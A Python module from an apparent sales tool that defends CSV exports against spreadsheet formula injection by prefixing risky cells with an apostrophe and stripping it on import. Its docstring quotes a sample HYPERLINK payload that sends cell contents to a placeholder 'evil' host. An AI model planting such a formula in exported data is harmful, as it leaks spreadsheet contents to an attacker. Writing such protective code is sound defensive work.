"""Cells of the CSV files salespulse writes, safe to open in a spreadsheet (CSV injection, OWASP).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets: a rep name such as `=HYPERLINK("http://evil/?"&A1)` would run on the sales-ops admin's machine.
Such a cell is written with a leading `'`, which spreadsheets show as text; plain numbers (`-12.50`) are left
as they are. Reading a file salespulse wrote (the importer reading back a fixed rejects file) takes the `'` off
again, so a round trip changes nothing.
"""

from __future__ import annotations

import re

__all__ = ["neutralise", "restore"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(cell: str) -> str:
    """The cell as written: text that a spreadsheet would run as a formula gets a leading `'`."""
    if cell.startswith(_FORMULA_START) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The cell as it was before `neutralise`."""
    if cell.startswith("'") and cell[1:].startswith(_FORMULA_START) and not _NUMBER.fullmatch(cell[1:]):
        return cell[1:]
    return cell
